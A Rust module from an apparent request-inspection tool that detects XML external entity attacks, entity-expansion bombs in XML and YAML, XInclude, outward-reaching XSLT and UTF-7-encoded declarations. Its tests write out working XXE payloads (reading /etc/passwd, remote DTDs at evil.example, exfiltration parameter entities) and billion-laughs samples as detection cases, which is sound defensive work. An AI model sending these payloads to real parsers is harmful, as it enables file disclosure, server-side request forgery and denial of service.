//! XML external entities in XML bodies: external entity and DTD declarations, parameter
//! entities, entity expansion bombs (many entities, entities built from entities, one entity
//! referenced over and over), XInclude, and XSLT that reaches outside the document
//! (`document()`, `system-property()`, extension functions, a remote `xml-stylesheet`).
//! Declarations spelled in UTF-7 (`+ADw-!DOCTYPE`) are decoded first: a parser told the body is
//! UTF-7 reads them as `<!DOCTYPE`.
//!
//! A caller has no business sending a DTD: element, attribute-list and notation declarations
//! are flagged wherever they appear (`xxe.dtd`), so are internal entities (the probe that asks
//! whether a parser reads DTDs at all), and so is a value made only of parameter-entity
//! references (`%dtd;`), the line that makes a parser fetch and run a DTD. The one exception,
//! at paranoia 1: internal general entities with plain text in an SVG document, which drawing
//! tools write (namespace and style shorthands) — unless they nest or are referenced en masse.

use super::normalize;
use super::subject::{class, find, gate, Hit, Needs, Subject, Tables};

/// What `detect` needs to fire (see [`Needs`]): a declaration, XInclude, XSLT or UTF-7 markup;
/// or a `%` (a parameter-entity reference).
pub(crate) fn needs() -> Needs {
    Needs::classes(class::OPS | class::STAR).or_gates(gate::XML_DECL)
}

/// DTDs of standards bodies that documents name by their public address (XHTML, SVG, Apple
/// property lists): a parser that fetches one reaches that publisher and nothing else.
const STANDARD_DTDS: &[&[u8]] = &[
    b"http://www.w3.org/",
    b"https://www.w3.org/",
    b"http://www.apple.com/dtds/",
    b"https://www.apple.com/dtds/",
];

/// XSLT that reads files or URLs, asks about the processor, or calls into the host language.
const XSLT_REACH: &[&[u8]] = &[
    b"document(",
    b"doc(",
    b"unparsed-text(",
    b"system-property(",
    b"php.net/xsl",
    b"php:function",
    b"xalan",
    b"saxon",
    b"urn:schemas-microsoft-com:xslt",
    b"exslt.org/common",
    b"java:",
    b"clitype:",
];

/// More general entity references than this in a document with its own entities: the
/// quadratic blow-up (one large entity referenced over and over).
const MANY_REFERENCES: usize = 32;

/// Finds XXE in one value.
pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
    let b = s.bytes();
    if s.has(class::AMP) && s.has(class::STAR) {
        if let Some(h) = yaml_alias_bomb(b) {
            return Some(h);
        }
    }
    if !s.gate(gate::XML_DECL) {
        return parameter_references(b);
    }
    if let Some(h) = declarations(b, s.paranoia)
        .or_else(|| xinclude(b))
        .or_else(|| xslt(b))
    {
        return Some(h);
    }
    // `+ADw-` is `<` in UTF-7 (base64 is case-sensitive: decode the original text).
    let at = find(b, b"+adw")?;
    let decoded = normalize::utf7(s.text.as_bytes());
    declarations(&decoded, s.paranoia).map(|h| Hit::new(h.rule, at, (at + 12).min(b.len())))
}

/// YAML's billion laughs: anchored nodes (`&b`) that repeat an earlier anchor's alias (`*a`)
/// four times or more, on two levels at least, so that each level multiplies what a loader
/// builds (`b: &b [*a,*a,*a,*a]`, or the same as a block sequence under `b: &b`). A node is
/// the rest of its line and the lines indented deeper below it. A configuration reuses an
/// anchor once per node (`<<: *defaults`).
fn yaml_alias_bomb(b: &[u8]) -> Option<Hit> {
    let name = |from: usize| {
        b[from..]
            .iter()
            .take(64)
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-'))
            .count()
    };
    // One pass over the lines (at most 4,096): each line's indent, the anchor it opens, and
    // its aliases of anchors opened on earlier lines (all of them, and those after its own
    // anchor). A bomb needs few anchors: the first 64 are kept.
    struct Line {
        indent: usize,
        blank: bool,
        anchor: Option<(usize, usize)>,
        refs: usize,
        own: usize,
    }
    let mut anchors: Vec<&[u8]> = Vec::new();
    let mut lines = Vec::new();
    let mut start = 0;
    for l in b.split(|c| *c == b'\n').take(4096) {
        let amp = memchr::memchr(b'&', l)
            .map(|p| start + p + 1)
            .map(|at| (at, name(at)))
            .filter(|&(_, len)| len > 0);
        let (mut refs, mut own) = (0, 0);
        for p in memchr::memchr_iter(b'*', l).map(|p| start + p + 1) {
            let n = name(p);
            if n > 0 && anchors.contains(&&b[p..p + n]) {
                refs += 1;
                own += usize::from(amp.is_some_and(|(at, len)| p >= at + len));
            }
        }
        if let Some((at, len)) = amp.filter(|_| anchors.len() < 64) {
            anchors.push(&b[at..at + len]);
        }
        lines.push(Line {
            indent: l.iter().take_while(|c| **c == b' ').count(),
            blank: l.trim_ascii().is_empty(),
            anchor: amp,
            refs,
            own,
        });
        start += l.len() + 1;
    }
    // A node is its anchor's line and the lines indented deeper below it (256 at most).
    let mut levels = 0;
    for (i, line) in lines.iter().enumerate() {
        let Some((at, len)) = line.anchor else {
            continue;
        };
        let repeats = line.own
            + lines[i + 1..]
                .iter()
                .take(256)
                .take_while(|l| l.blank || l.indent > line.indent)
                .map(|l| l.refs)
                .sum::<usize>();
        if repeats >= 4 {
            levels += 1;
            if levels >= 2 {
                return Some(Hit::new("xxe.entity_expansion", at - 1, at + len));
            }
        }
    }
    None
}

/// Markup declarations that only a DTD holds: an element's content model, attribute defaults,
/// notations (which name a program or file by an external identifier).
const DTD_DECLARATIONS: &[&[u8]] = &[b"<!element", b"<!attlist", b"<!notation"];

/// A value made only of parameter-entity references (`%dtd; %send;`), as sent to a parser
/// that reads it inside a DTD.
fn parameter_references(b: &[u8]) -> Option<Hit> {
    let t = b.trim_ascii();
    // Most values with a `%` are percent-encoding: decided by the ends, before any split.
    if t.first() != Some(&b'%') || t.last() != Some(&b';') {
        return None;
    }
    // Each `;`-ended piece is one `%name`.
    let all = t[..t.len() - 1].split(|c| *c == b';').all(|r| {
        let name = r.trim_ascii().strip_prefix(b"%").unwrap_or_default();
        name.first()
            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
            && name.iter().all(|c| is_name_byte(*c))
    });
    all.then(|| Hit::new("xxe.parameter_entity", 0, t.len().min(24)))
}

fn is_name_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b':')
}

/// DOCTYPE, ENTITY and other markup declarations in lower-case `b`.
fn declarations(b: &[u8], paranoia: u8) -> Option<Hit> {
    for d in DTD_DECLARATIONS {
        if let Some(p) = find(b, d) {
            let rest = &b[p..b.len().min(p + 1024)];
            let end = memchr::memchr(b'>', rest).unwrap_or(rest.len());
            let rule = if external(&rest[..end]) {
                "xxe.external_entity"
            } else {
                "xxe.dtd"
            };
            return Some(Hit::new(rule, p, p + end.min(32)));
        }
    }
    let entity = find(b, b"<!entity");
    let doctype = find(b, b"<!doctype");
    let first = entity.or(doctype)?;
    let decl = &b[first..];
    let mut entities = 0;
    let mut nested = false;
    for e in memchr::memmem::find_iter(decl, b"<!entity") {
        entities += 1;
        let rest = &decl[e + 8..decl.len().min(e + 8 + 1024)];
        let k = rest.iter().take_while(|c| c.is_ascii_whitespace()).count();
        if rest.get(k) == Some(&b'%') {
            return Some(Hit::new("xxe.parameter_entity", first + e, first + e + 12));
        }
        // The declaration ends at the first `>` outside its quoted text (a value may hold
        // `>`, and references after it count).
        let end = declaration_end(rest);
        let body = &rest[..end];
        if external(body) {
            return Some(Hit::new(
                "xxe.external_entity",
                first + e,
                first + e + 8 + end.min(32),
            ));
        }
        // An entity whose text refers to another entity: each level multiplies the expansion.
        nested |= references(body) > 0;
    }
    let amps = memchr::memchr_iter(b'&', decl).count();
    if nested || (entities >= 1 && amps > MANY_REFERENCES && references(decl) > MANY_REFERENCES) {
        return Some(Hit::new("xxe.entity_expansion", first, first + 9));
    }
    if let Some(d) = doctype {
        let rest = &b[d..b.len().min(d + 1024)];
        let end = memchr::memchr2(b'>', b'[', rest).unwrap_or(rest.len());
        let head = &rest[..end];
        // Quoted-printable spells quotes `=22` and breaks lines with `=`: an HTML e-mail's
        // DOCTYPE in a raw message (`PUBLIC =22-//W3C//DTD HTML 4.0//EN=22`).
        let unfolded;
        let quoted = head.iter().any(|c| matches!(c, b'"' | b'\''));
        let head = if !quoted && find(head, b"=22").is_some() {
            unfolded = crate::trigger::decode::quoted_printable(head);
            &unfolded[..]
        } else {
            head
        };
        // Without a quoted literal there is no system identifier to fetch (SGML's
        // `PUBLIC -//W3C//DTD HTML 4.0//EN`).
        let literal = head.iter().any(|c| matches!(c, b'"' | b'\''));
        if external(head) && literal && !standard_dtd(head) {
            return Some(Hit::new("xxe.external_entity", d, d + end.min(40)));
        }
        // `<!DOCTYPE x [%dtd;]>`: a parameter entity the subset expects from elsewhere.
        if rest.get(end) == Some(&b'[') {
            let subset = &rest[end..];
            let subset = &subset[..memchr::memchr(b']', subset).unwrap_or(subset.len())];
            if let Some(p) = memchr::memchr(b'%', subset) {
                if subset[p + 1..]
                    .iter()
                    .take_while(|c| is_name_byte(**c))
                    .count()
                    > 0
                {
                    return Some(Hit::new("xxe.parameter_entity", d, d + end + p + 1));
                }
            }
        }
    }
    // Internal entities with plain text: a probe for whether the parser reads a DTD at all
    // (`<!DOCTYPE x [<!ENTITY t "test">]>`). Only an SVG export from a drawing tool has a
    // reason to carry them (namespace and style shorthands), so there they pass at paranoia 1.
    let e = entity?;
    (paranoia >= 2 || !svg_root(b, doctype)).then(|| Hit::new("xxe.dtd", e, e + 9))
}

/// Whether the document's DOCTYPE names `svg` as its root element.
fn svg_root(b: &[u8], doctype: Option<usize>) -> bool {
    doctype.is_some_and(|d| {
        let rest = &b[d + b"<!doctype".len()..];
        let name = rest.trim_ascii_start();
        name.starts_with(b"svg") && !name.get(3).is_some_and(|c| is_name_byte(*c))
    })
}

/// Where a markup declaration that starts before `rest` ends: its first `>` outside quotes.
fn declaration_end(rest: &[u8]) -> usize {
    let mut quote = None;
    for (i, &c) in rest.iter().enumerate() {
        match (quote, c) {
            (None, b'"' | b'\'') => quote = Some(c),
            (Some(q), _) if c == q => quote = None,
            (None, b'>') => return i,
            _ => {}
        }
    }
    rest.len()
}

/// Whether a declaration names an external identifier (`SYSTEM "…"`, `PUBLIC "…" "…"`).
fn external(decl: &[u8]) -> bool {
    find(decl, b"system").is_some() || find(decl, b"public").is_some()
}

/// General entity references (`&name;`) in `b`, character references and the five predefined
/// entities left out.
fn references(b: &[u8]) -> usize {
    memchr::memchr_iter(b'&', b)
        .filter(|&p| {
            let name = &b[p + 1..];
            let len = name
                .iter()
                .take(64)
                .take_while(|c| is_name_byte(**c))
                .count();
            len > 0
                && name.get(len) == Some(&b';')
                && !name[0].is_ascii_digit()
                && !matches!(&name[..len], b"amp" | b"lt" | b"gt" | b"quot" | b"apos")
        })
        .count()
}

/// Whether a DOCTYPE's external identifier (`head`, up to its `[` or `>`) is a standard DTD at
/// its publisher's address: its system literal, the last quoted one, starts with [`STANDARD_DTDS`].
fn standard_dtd(head: &[u8]) -> bool {
    let Some(close) = head.iter().rposition(|c| matches!(c, b'"' | b'\'')) else {
        return false;
    };
    let quote = head[close];
    let Some(open) = head[..close].iter().rposition(|c| *c == quote) else {
        return false;
    };
    let literal = &head[open + 1..close];
    STANDARD_DTDS.iter().any(|d| literal.starts_with(d))
}

fn xinclude(b: &[u8]) -> Option<Hit> {
    // The namespace names XInclude whatever the prefix (or none) the document gives it.
    let p = find(b, b"<xi:include")
        .or_else(|| find(b, b"xmlns:xi="))
        .or_else(|| find(b, b"/2001/xinclude"))?;
    Some(Hit::new("xxe.xinclude", p, (p + 14).min(b.len())))
}

/// XSLT that reaches outside the document, and `xml-stylesheet` instructions that make a
/// processor fetch and run a remote XSLT.
fn xslt(b: &[u8]) -> Option<Hit> {
    if let Some(pi) = find(b, b"<?xml-stylesheet") {
        let rest = &b[pi..b.len().min(pi + 512)];
        let end = find(rest, b"?>").unwrap_or(rest.len());
        let pi_text = &rest[..end];
        let remote = find(pi_text, b"://").is_some() || find(pi_text, b"file:").is_some();
        if remote && find(pi_text, b"xsl").is_some() {
            return Some(Hit::new("xxe.xslt", pi, pi + end));
        }
    }
    // The XSLT namespace, or its conventional prefix on an element.
    find(b, b"/xsl/transform").or_else(|| find(b, b"<xsl:"))?;
    for reach in XSLT_REACH {
        if let Some(p) = find(b, reach) {
            return Some(Hit::new("xxe.xslt", p, p + reach.len()));
        }
    }
    // `<xsl:include href="http://…"/>`, `<xsl:import href="file:…"/>`.
    for el in [&b":include"[..], b":import"] {
        for p in memchr::memmem::find_iter(b, el) {
            let rest = &b[p..b.len().min(p + 256)];
            let end = memchr::memchr(b'>', rest).unwrap_or(rest.len());
            if find(&rest[..end], b"://").is_some() || find(&rest[..end], b"file:").is_some() {
                return Some(Hit::new("xxe.xslt", p, p + end));
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::subject::test_subject;

    fn rule(text: &str) -> Option<&'static str> {
        test_subject(text, 1, detect).map(|h| h.rule)
    }

    /// PayloadsAllTheThings' YAML billion laughs, with other names; anchors reused as
    /// configurations reuse them are data.
    #[test]
    fn yaml_alias_expansion() {
        let bomb = "a: &x [\"lol\",\"lol\",\"lol\"]\nb: &y [*x,*x,*x,*x,*x,*x]\nc: &z [*y,*y,*y,*y,*y,*y]\n";
        assert_eq!(rule(bomb), Some("xxe.entity_expansion"));
        let block = "a: &x lol\nb: &y\n  - *x\n  - *x\n  - *x\n  - *x\nc: &z\n  - *y\n  - *y\n  - *y\n  - *y\n";
        assert_eq!(rule(block), Some("xxe.entity_expansion"));
        let compose = "x-env: &env\n  A: 1\nx-log: &log\n  driver: json\nservices:\n  a:\n    environment: *env\n    logging: *log\n  b:\n    environment: *env\n    logging: *log\n  c:\n    environment: *env\n    logging: *log\n";
        assert_eq!(rule(compose), None);
        let config = "defaults: &defaults\n  adapter: postgres\ndev:\n  <<: *defaults\n  db: dev\ntest:\n  <<: *defaults\n  db: test\nall: &all [*defaults, *defaults]\n";
        assert_eq!(rule(config), None);
        assert_eq!(rule("?a=1&b=2 **b** *b *b *b *b"), None);
    }

    #[test]
    fn attacks_and_plain_xml() {
        assert_eq!(
            rule("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
            Some("xxe.external_entity")
        );
        assert_eq!(
            rule("<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://x/e.dtd\"> %p;]>"),
            Some("xxe.parameter_entity")
        );
        assert_eq!(
            rule("<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>"),
            Some("xxe.external_entity")
        );
        assert_eq!(rule("<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></r>"), Some("xxe.xinclude"));
        assert_eq!(
            rule("<?xml version=\"1.0\"?><order><id>5</id></order>"),
            None
        );
        assert_eq!(rule("<!DOCTYPE html><html></html>"), None);
    }

    #[test]
    fn expansion_by_nesting_or_repetition() {
        // Two entities, one built from the other; and recursion.
        assert_eq!(
            rule("<!DOCTYPE b [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\">]><b>&b;</b>"),
            Some("xxe.entity_expansion")
        );
        assert_eq!(
            rule("<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]><r>&a;</r>"),
            Some("xxe.entity_expansion")
        );
        let quadratic = format!(
            "<!DOCTYPE q [<!ENTITY big \"{}\">]><q>{}</q>",
            "A".repeat(200),
            "&big;".repeat(40)
        );
        assert_eq!(rule(&quadratic), Some("xxe.entity_expansion"));
        // An SVG export's shorthands (Adobe Illustrator's header); character references are
        // not entities.
        let ns = [
            "extend", "ai", "graphs", "vars", "imrep", "sfw", "custom", "svg", "xlink",
        ];
        let decls: String = ns
            .iter()
            .map(|n| format!("<!ENTITY ns_{n} \"http://ns.adobe.com/{n}/1.0/\">\n"))
            .collect();
        let attrs: String = ns
            .iter()
            .map(|n| format!(" xmlns:{n}=\"&ns_{n};\""))
            .collect();
        let illustrator = format!("<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [\n{decls}]>\n<svg{attrs}><g/></svg>");
        assert_eq!(rule(&illustrator), None);
        assert_eq!(
            rule("<!DOCTYPE svg [<!ENTITY co \"Acme &#169; &amp; Co\">]><svg>&co;</svg>"),
            None
        );
    }

    #[test]
    fn internal_entities_outside_svg_are_a_supplied_dtd() {
        for probe in [
            "<!DOCTYPE xxe [<!ENTITY foo \"aaaaaa\">]><root>&foo;</root>",
            "<?xml version=\"1.0\"?><!DOCTYPE replace [<!ENTITY example \"Doe\"> ]><u>&example;</u>",
            "<!ENTITY test \"x\">",
            "<!DOCTYPE svgx [<!ENTITY a \"b\">]>",
        ] {
            assert_eq!(rule(probe), Some("xxe.dtd"), "{probe}");
        }
        let svg = "<!DOCTYPE svg [<!ENTITY st0 \"fill:#fff;\">]><svg style=\"&st0;\"/>";
        assert_eq!(rule(svg), None);
        assert_eq!(
            test_subject(svg, 2, detect).map(|h| h.rule),
            Some("xxe.dtd")
        );
        // A bomb is one in an SVG document too, its references hidden behind a `>` or not.
        let bomb = "<!DOCTYPE svg [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;&a;\">]><svg>&b;</svg>";
        assert_eq!(rule(bomb), Some("xxe.entity_expansion"));
        let hidden = "<!DOCTYPE svg [<!ENTITY a \"x\"><!ENTITY b \">&a;&a;&a;\">]><svg>&b;</svg>";
        assert_eq!(rule(hidden), Some("xxe.entity_expansion"));
    }

    #[test]
    fn xinclude_by_namespace_and_xslt_that_reaches_out() {
        assert_eq!(
            rule("<d><x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"/etc/hosts\"/></d>"),
            Some("xxe.xinclude")
        );
        let ns = "xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"";
        for reach in [
            "<xsl:value-of select=\"document('/etc/passwd')\"/>",
            "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
            "<xsl:include href=\"http://evil.example/x.xsl\"/>",
        ] {
            let doc = format!("<xsl:stylesheet version=\"1.0\" {ns}><xsl:template match=\"/\">{reach}</xsl:template></xsl:stylesheet>");
            assert_eq!(rule(&doc), Some("xxe.xslt"), "{reach}");
        }
        assert_eq!(
            rule("<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/s.xsl\"?><d/>"),
            Some("xxe.xslt")
        );
        // A plain stylesheet, and a CSS stylesheet instruction.
        let plain = format!("<xsl:stylesheet {ns}><xsl:template match=\"/\"><xsl:value-of select=\"title\"/></xsl:template></xsl:stylesheet>");
        assert_eq!(rule(&plain), None);
        assert_eq!(
            rule("<?xml-stylesheet type=\"text/css\" href=\"style.css\"?><c/>"),
            None
        );
    }

    #[test]
    fn dtd_fragments_and_parameter_references() {
        assert_eq!(rule("<!DOCTYPE foo [ <!ELEMENT foo ANY >"), Some("xxe.dtd"));
        assert_eq!(rule("<!ATTLIST img src CDATA #IMPLIED>"), Some("xxe.dtd"));
        assert_eq!(
            rule("<!NOTATION sh SYSTEM \"file:///bin/sh\">"),
            Some("xxe.external_entity")
        );
        assert_eq!(
            rule("<!DOCTYPE x [%remote;]><x/>"),
            Some("xxe.parameter_entity")
        );
        for refs in ["%dtd;", " %all; ", "%eval;%exfil;", "%send; %x-1;"] {
            assert_eq!(rule(refs), Some("xxe.parameter_entity"), "{refs}");
        }
        // Percent-encoding, prices and prose are not references.
        for plain in [
            "%ff",
            "%3b;",
            "50%;",
            "100% sure;",
            "%a;b",
            "%dtd",
            "x %dtd;",
            "%E2%80%99;",
        ] {
            assert_eq!(rule(plain), None, "{plain}");
        }
        // The XSLT prefix alone names a stylesheet.
        assert_eq!(
            rule("<xsl:value-of select=\"system-property('xsl:vendor')\"/>"),
            Some("xxe.xslt")
        );
    }

    #[test]
    fn utf7_declarations_are_decoded() {
        assert_eq!(
            rule("+ADw-!DOCTYPE r +AFs-+ADw-!ENTITY x SYSTEM +ACI-http://evil.example/+ACI-+AD4-+AF0-+AD4-"),
            Some("xxe.external_entity")
        );
    }

    #[test]
    fn html_mail_doctypes_pass() {
        // Quoted-printable, as a raw message carries it; a public identifier alone.
        assert_eq!(rule("<!DOCTYPE html PUBLIC =22-//W3C//DTD HTML 4.0 Transitional//EN=22 =\n=22http://www.w3.org/TR/REC-html40/loose.dtd=22>"), None);
        assert_eq!(rule("<!DOCTYPE HTML PUBLIC -//W3C//DTD HTML 4.0 Transitional//EN>\n<html><body>Hi</body></html>"), None);
        assert_eq!(
            rule("<!DOCTYPE html PUBLIC =22-//W3C//DTD HTML 4.0//EN=22 =22http://evil.example/x.dtd=22>"),
            Some("xxe.external_entity")
        );
        // Real quotes are read as they are, whatever `=22` the literal holds.
        assert_eq!(
            rule("<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd?=22http://www.w3.org/\">"),
            Some("xxe.external_entity")
        );
    }

    #[test]
    fn standard_dtds_at_their_publisher_pass() {
        assert_eq!(rule("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>"), None);
        assert_eq!(rule("<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>"), None);
        // The same public identifier with another system literal is fetched from there.
        assert_eq!(
            rule("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://evil.example/x.dtd\"><html/>"),
            Some("xxe.external_entity")
        );
    }
}
